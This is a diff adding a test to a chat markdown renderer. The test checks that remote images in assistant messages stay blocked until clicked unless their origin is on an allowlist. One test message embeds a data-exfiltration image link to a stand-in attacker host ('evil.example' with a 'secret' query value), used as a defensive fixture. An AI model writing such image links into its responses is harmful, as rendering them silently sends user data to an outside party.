@@ -65,3 +65,24 @@ test("a new node switches the element to that message", async () => {
   await rerender({ node: b!, options: { highlighter: false } });
   expect(container.querySelector(".tl-markdown")!.innerHTML).toBe("<p><em>Second</em></p>");
 });
+
+test("remote images wait for a click unless options.imageOrigins allows their origin", () => {
+  const thread = createThread();
+  fold(
+    thread,
+    { type: "TEXT_MESSAGE_START", messageId: "m1", role: "assistant" },
+    { type: "TEXT_MESSAGE_CONTENT", messageId: "m1", delta: "![Q3](https://charts.example/q3.png) and ![x](//evil.example/p.gif?d=secret)" },
+    { type: "TEXT_MESSAGE_END", messageId: "m1" },
+  );
+  const node = thread.messages.value[0]!;
+  const blocked = render(StreamingMarkdown, { props: { node, options: { highlighter: false } } });
+  expect(blocked.container.querySelector("img")).toBeNull();
+  expect([...blocked.container.querySelectorAll(".tl-image-alt")].map((alt) => alt.textContent)).toEqual(["Q3", "x"]);
+  blocked.container.querySelector<HTMLButtonElement>(".tl-image-load")!.click();
+  expect(blocked.container.querySelector("img")!.getAttribute("src")).toBe("https://charts.example/q3.png");
+  blocked.unmount();
+  const allowed = render(StreamingMarkdown, { props: { node, options: { highlighter: false, imageOrigins: ["https://charts.example"] } } });
+  expect([...allowed.container.querySelectorAll("img")].map((image) => image.getAttribute("src"))).toEqual(["https://charts.example/q3.png"]);
+  expect(allowed.container.querySelectorAll(".tl-image-blocked")).toHaveLength(1);
+  allowed.unmount();
+});
